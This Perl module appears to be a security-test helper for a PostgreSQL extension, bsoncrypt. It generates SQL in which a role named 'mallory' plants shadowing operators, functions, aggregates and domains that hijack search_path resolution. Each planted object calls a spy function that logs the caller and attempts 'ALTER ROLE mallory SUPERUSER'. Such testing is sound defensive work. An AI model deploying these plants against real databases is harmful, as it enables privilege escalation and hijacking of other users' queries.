# HostilePlants: SQL with which a hostile role ("mallory") plants functions,
# operators, aggregates and types that are better matches than pg_catalog's
# for what bsoncrypt's SQL uses, so that any SQL resolving names through a
# search_path that mallory controls runs mallory's code.
#
# Every planted object still computes the right result (it delegates to
# pg_catalog), and when it runs as any role but mallory it calls
# mallory.spy(tag), which records (current_user, tag, database,
# application_name, backend_type) in mallory.ran, logs a WARNING starting
# with "hostile plant ran", and tries ALTER ROLE mallory SUPERUSER.
package HostilePlants;

use strict;
use warnings;
use Exporter 'import';

our @EXPORT = qw(spy_sql plants_sql);

# mallory's schema with the record table and the spy; run as mallory
sub spy_sql
{
	return <<'SQL';
CREATE SCHEMA mallory;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
CREATE TABLE mallory.ran (
    who pg_catalog.name, tag pg_catalog.text, db pg_catalog.name,
    app pg_catalog.text, backend pg_catalog.text, escalated pg_catalog.bool,
    at pg_catalog.timestamptz DEFAULT pg_catalog.clock_timestamp());
GRANT INSERT ON mallory.ran TO PUBLIC;
CREATE FUNCTION mallory.spy(tag pg_catalog.text) RETURNS pg_catalog.bool
LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS $$
DECLARE
    escalated bool := false;
BEGIN
    IF current_user OPERATOR(pg_catalog.<>) 'mallory' THEN
        BEGIN
            EXECUTE 'ALTER ROLE mallory SUPERUSER';
            escalated := true;
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
        INSERT INTO mallory.ran (who, tag, db, app, backend, escalated)
        VALUES (current_user, tag, current_database(), current_setting('application_name'),
                (SELECT a.backend_type FROM pg_stat_activity a
                  WHERE a.pid OPERATOR(pg_catalog.=) pg_backend_pid()),
                escalated);
        RAISE WARNING 'hostile plant ran: % as % in database % (escalated: %)',
            tag, current_user, current_database(), escalated;
    END IF;
    RETURN true;
END $$;
GRANT EXECUTE ON FUNCTION mallory.spy(pg_catalog.text) TO PUBLIC;
SQL
}

# operators: [name, left type, right type, result type]
my @operators = (
	[ '=', 'text', 'text', 'bool' ],
	[ '<>', 'text', 'text', 'bool' ],
	[ '=', 'uuid', 'uuid', 'bool' ],
	[ '<>', 'uuid', 'uuid', 'bool' ],
	[ '>', 'uuid', 'uuid', 'bool' ],
	[ '<=', 'uuid', 'uuid', 'bool' ],
	[ '=', 'name', 'name', 'bool' ],
	[ '=', 'name', 'text', 'bool' ],
	[ '=', 'oid', 'oid', 'bool' ],
	[ '=', 'int4', 'int4', 'bool' ],
	[ '=', 'bytea', 'bytea', 'bool' ],
	[ '=', 'text[]', 'text[]', 'bool' ],
	[ '&&', 'text[]', 'text[]', 'bool' ],
	[ '*', 'numeric', 'int4', 'numeric' ],
	[ '||', 'text[]', 'text[]', 'text[]' ],
	[ '||', 'text[]', 'text', 'text[]' ],
	[ '+', 'int8', 'int8', 'int8' ],
	[ '-', 'timestamptz', 'timestamptz', 'interval' ],
	[ '-', 'timestamptz', 'interval', 'timestamptz' ],
	[ '+', 'timestamptz', 'interval', 'timestamptz' ],
	[ '<=', 'timestamptz', 'timestamptz', 'bool' ],
	[ '>', 'timestamptz', 'timestamptz', 'bool' ],);

# functions: [name, argument types, result type, body returning the result]
my @functions = (
	[ 'unnest', ['text[]'], 'SETOF pg_catalog.text', 'RETURN QUERY SELECT pg_catalog.unnest(a1);' ],
	[ 'unnest', ['uuid[]'], 'SETOF pg_catalog.uuid', 'RETURN QUERY SELECT pg_catalog.unnest(a1);' ],
	[ 'unnest', ['bytea[]'], 'SETOF pg_catalog.bytea', 'RETURN QUERY SELECT pg_catalog.unnest(a1);' ],
	[ 'now', [], 'pg_catalog.timestamptz', 'RETURN pg_catalog.now();' ],
	[ 'gen_random_uuid', [], 'pg_catalog.uuid', 'RETURN pg_catalog.gen_random_uuid();' ],
	[ 'jsonb_build_object', [ 'text', 'text' ], 'pg_catalog.jsonb',
		'RETURN pg_catalog.jsonb_build_object(a1, a2);' ],
	[ 'array_position', [ 'text[]', 'text' ], 'pg_catalog.int4',
		'RETURN pg_catalog.array_position(a1, a2);' ],
	[ 'array_remove', [ 'text[]', 'text' ], 'pg_catalog.text[]',
		'RETURN pg_catalog.array_remove(a1, a2);' ],
	[ 'format', [ 'text', 'regrole' ], 'pg_catalog.text', 'RETURN pg_catalog.format(a1, a2);' ],
	[ 'format', [ 'text', 'text' ], 'pg_catalog.text', 'RETURN pg_catalog.format(a1, a2);' ],
	[ 'to_regclass', ['text'], 'pg_catalog.regclass', 'RETURN pg_catalog.to_regclass(a1);' ],
	[ 'to_regtype', ['text'], 'pg_catalog.regtype', 'RETURN pg_catalog.to_regtype(a1);' ],
	[ 'set_config', [ 'text', 'text', 'bool' ], 'pg_catalog.text',
		'RETURN pg_catalog.set_config(a1, a2, a3);' ],
	[ 'make_interval', [ 'int4', 'int4', 'int4', 'int4', 'int4', 'int4', 'float8' ],
		'pg_catalog.interval',
		'RETURN pg_catalog.make_interval(a1, a2, a3, a4, a5, a6, a7);' ],
	[ 'power', [ 'int4', 'int4' ], 'pg_catalog.float8', 'RETURN pg_catalog.power(a1, a2);' ],);

# types named like those bsoncrypt's SQL casts to
my @domains = qw(uuid int8 text bytea timestamptz regclass);

# Plant everything in schema $schema (an identifier, created by the caller).
sub plants_sql
{
	my ($schema) = @_;
	my $s = qq{"$schema"};
	my $sql = '';
	my $n = 0;
	for my $op (@operators)
	{
		my ($name, $l, $r, $res) = @$op;
		my $tag = "$schema.$name($l, $r)";
		$n++;
		$sql .= qq{CREATE FUNCTION $s.plant_op_$n(a1 pg_catalog.$l, a2 pg_catalog.$r) RETURNS pg_catalog.$res
LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS \$\$
BEGIN PERFORM mallory.spy('$tag'); RETURN a1 OPERATOR(pg_catalog.$name) a2; END \$\$;
CREATE OPERATOR $s.$name (LEFTARG = pg_catalog.$l, RIGHTARG = pg_catalog.$r, FUNCTION = $s.plant_op_$n);
};
	}
	for my $f (@functions)
	{
		my ($name, $args, $res, $body) = @$f;
		my $i = 0;
		my $params = join(', ', map { 'a' . ++$i . " pg_catalog.$_" } @$args);
		my $tag = "$schema.$name(" . join(', ', @$args) . ')';
		$sql .= qq{CREATE FUNCTION $s.$name($params) RETURNS $res
LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS \$\$
BEGIN PERFORM mallory.spy('$tag'); $body END \$\$;
};
	}
	# aggregates: count(*), sum(int4), max(text), min(timestamptz), array_agg(text)
	$sql .= qq{CREATE FUNCTION $s.plant_count_step(s pg_catalog.int8) RETURNS pg_catalog.int8
LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS \$\$
BEGIN PERFORM mallory.spy('$schema.count(*)'); RETURN s OPERATOR(pg_catalog.+) 1; END \$\$;
CREATE AGGREGATE $s.count(*) (SFUNC = $s.plant_count_step, STYPE = pg_catalog.int8, INITCOND = '0');
CREATE FUNCTION $s.plant_sum_step(s pg_catalog.int8, v pg_catalog.int4) RETURNS pg_catalog.int8
LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS \$\$
BEGIN
    PERFORM mallory.spy('$schema.sum(int4)');
    IF v IS NULL THEN RETURN s; END IF;
    RETURN coalesce(s, 0) OPERATOR(pg_catalog.+) v;
END \$\$;
CREATE AGGREGATE $s.sum(pg_catalog.int4) (SFUNC = $s.plant_sum_step, STYPE = pg_catalog.int8);
CREATE FUNCTION $s.plant_max_step(s pg_catalog.text, v pg_catalog.text) RETURNS pg_catalog.text
LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS \$\$
BEGIN PERFORM mallory.spy('$schema.max(text)'); RETURN pg_catalog.greatest(s, v); END \$\$;
CREATE AGGREGATE $s.max(pg_catalog.text) (SFUNC = $s.plant_max_step, STYPE = pg_catalog.text);
CREATE FUNCTION $s.plant_min_step(s pg_catalog.timestamptz, v pg_catalog.timestamptz) RETURNS pg_catalog.timestamptz
LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS \$\$
BEGIN PERFORM mallory.spy('$schema.min(timestamptz)'); RETURN pg_catalog.least(s, v); END \$\$;
CREATE AGGREGATE $s.min(pg_catalog.timestamptz) (SFUNC = $s.plant_min_step, STYPE = pg_catalog.timestamptz);
CREATE FUNCTION $s.plant_array_agg_step(s pg_catalog.text[], v pg_catalog.text) RETURNS pg_catalog.text[]
LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS \$\$
BEGIN PERFORM mallory.spy('$schema.array_agg(text)'); RETURN pg_catalog.array_append(s, v); END \$\$;
CREATE AGGREGATE $s.array_agg(pg_catalog.text) (SFUNC = $s.plant_array_agg_step, STYPE = pg_catalog.text[]);
};
	for my $t (@domains)
	{
		$sql .= qq{CREATE DOMAIN $s.$t AS pg_catalog.$t CHECK (mallory.spy('$schema.$t (domain)'));\n};
	}
	return $sql;
}

1;
